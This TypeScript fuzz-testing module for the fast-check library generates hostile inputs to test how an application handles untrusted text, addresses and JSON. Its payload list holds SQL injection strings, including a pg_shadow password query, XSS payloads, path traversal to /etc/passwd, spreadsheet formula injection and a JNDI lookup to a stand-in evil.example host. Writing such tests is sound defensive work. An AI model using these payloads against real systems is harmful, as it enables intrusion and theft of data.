import fc from "fast-check";

/** Begins every value that would be markup: where an answer of HTML has it unescaped, somebody's script runs. */
export const marker = "<fuzz-";

const attacks = [
  ...[
    "",
    " ",
    "0",
    "-1",
    "1e309",
    "NaN",
    "Infinity",
    "null",
    "undefined",
    "true",
    "[object Object]",
    "[]",
    "{}",
  ],
  ...[
    "9".repeat(400),
    "9007199254740993",
    "-9223372036854775809",
    "1_000",
    "0x10",
    "１２",
    "٣",
    "1.7976931348623157e308",
  ],
  ...[
    "2026-02-30",
    "0000-00-00",
    "9999-12-31T23:59:59.999999999Z",
    "+275760-09-13T00:00:00Z",
    "-000001-01-01",
    "2026-11-18T14:05:00+99:99",
  ],
  ...[
    "2026-11-18",
    "2026-11-18T14:05:00Z",
    "1970-01-01",
    "now",
    "infinity",
    "-infinity",
    "epoch",
    "today",
    "allballs",
  ],
  ...[
    "'",
    "''",
    '"',
    "\\",
    "\\'",
    "'; DROP TABLE account; --",
    "' OR '1'='1",
    "1) OR (1=1",
    "') UNION SELECT usename, passwd FROM pg_shadow --",
  ],
  ...[
    "$1",
    "$$",
    "%",
    "_",
    "%%%%%",
    "x'; SELECT pg_sleep(5); --",
    "(SELECT pg_sleep(5))",
    "E'\\x41'",
    "\\copy account to '/tmp/x'",
  ],
  ...[
    `${marker}script>alert(1)</script>`,
    `"><${"fuzz-img"} src=x onerror=alert(1)>`,
    `'${marker}svg/onload=alert(1)>`,
    `</script>${marker}script>`,
  ],
  ...[
    "javascript:alert(1)",
    "data:text/html,x",
    "//evil.example",
    "https://evil.example/",
    "/\\evil.example",
    "file:///etc/passwd",
  ],
  ...["../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "/", ".", "..", "con", "\\\\host\\share"],
  ...["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "=cmd|' /C calc'!A0", "＝1"],
  ...[
    "\0",
    "a\0b",
    "\r\nset-cookie: a=b",
    "\n",
    "\u2028",
    "\u202Eabc",
    "\u200B",
    "\uFEFF",
    "\x1b[31m",
    "\x7f",
    "\ud800",
    "\udfff\ud800",
  ],
  ...[
    "💥".repeat(300),
    "İıſß",
    "a\u0301".repeat(500),
    "\u{10FFFF}",
    "ﷺ".repeat(200),
    "x".repeat(2048),
    "x".repeat(2049),
    "x".repeat(6000),
  ],
  ...["__proto__", "constructor", "hasOwnProperty", "toString", "prototype"],
  ...[
    `${"$"}{7*7}`,
    "{{7*7}}",
    "<%= 7*7 %>",
    `${"$"}{jndi:ldap://evil.example/a}`,
    "(((((a+)+)+)+)+)$",
    "*".repeat(500),
    "(".repeat(500),
  ],
  ...[
    "*",
    "all",
    "any",
    "-",
    "--",
    "-vpcEndpointId",
    "vpce-1",
    "vpce-",
    "111111111111",
    "us-east-1",
    "use1-az1",
    "Interface",
    "available",
  ],
];

/** Text as somebody sends it who wants harm, or does not know what he sends. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...attacks) },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 60 }) },
  {
    weight: 1,
    arbitrary: fc.tuple(fc.constantFrom(...attacks), fc.constantFrom(...attacks)).map((two) => two.join("")),
  },
);

// What encodeURIComponent refuses or never makes: half a character, overlong and cut UTF-8, a bare percent sign.
const rawPieces = [
  "%",
  "%zz",
  "%C0%AF",
  "%ED%A0%80",
  "%FF",
  "%00",
  "%E2%80",
  "%u0041",
  "+",
  "%2e%2e%2f",
  "[",
  "]",
  "{",
  "|",
  "^",
  "`",
];

/** A piece of an address, encoded as it should be or not at all well. */
export function encoded(text: fc.Arbitrary<string>): fc.Arbitrary<string> {
  const well = text.map((value) => encodeURIComponent(value.toWellFormed()));
  return fc.oneof({ weight: 12, arbitrary: well }, { weight: 1, arbitrary: fc.constantFrom(...rawPieces) });
}

/** Any JSON at all, its texts and names hostile. */
export const hostileJson: fc.Arbitrary<unknown> = fc.oneof(
  hostileText,
  fc.constantFrom(null, true, false, 0, -1, 1e308, -1e308, 2 ** 53, 0.1, [], {}, [[[[[[]]]]]]),
  fc.array(fc.oneof(hostileText, fc.integer()), { maxLength: 5 }),
  fc.dictionary(hostileText, fc.oneof(hostileText, fc.integer(), fc.constant(null)), { maxKeys: 4 }),
);
